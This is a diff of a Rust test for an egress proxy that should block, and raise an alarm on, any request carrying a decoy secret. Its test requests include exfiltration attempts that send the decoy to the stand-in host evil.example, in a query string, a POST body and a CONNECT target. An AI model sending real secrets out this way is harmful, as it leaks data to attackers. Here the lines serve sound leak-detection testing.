@@ -446,8 +446,10 @@ async fn a_decoy_in_anything_that_leaves_raises_the_alarm() {
             "POST http://{at}/ HTTP/1.1\r\nHost: {at}\r\nContent-Length: 36\r\nConnection: close\r\n\r\n{DECOY}"
         ),
         format!("CONNECT {DECOY}.evil.example:443 HTTP/1.1\r\nConnection: close\r\n\r\n"),
+        // A host that is not allowed is told nothing, and who tries it is heard.
+        get(&at, &format!("http://evil.example/?x={DECOY}"), ""),
     ] {
-        let inside = world.with_canary(&["http://good.example"], DECOY);
+        let inside = world.with_decoy(&["http://good.example"], DECOY);
         assert!(!inside.proxy.is_alarmed());
         let said = inside.raw(Door::Proxy, request.as_bytes()).await;
         assert!(said.starts_with("HTTP/1.1 403"), "{request}: {said}");
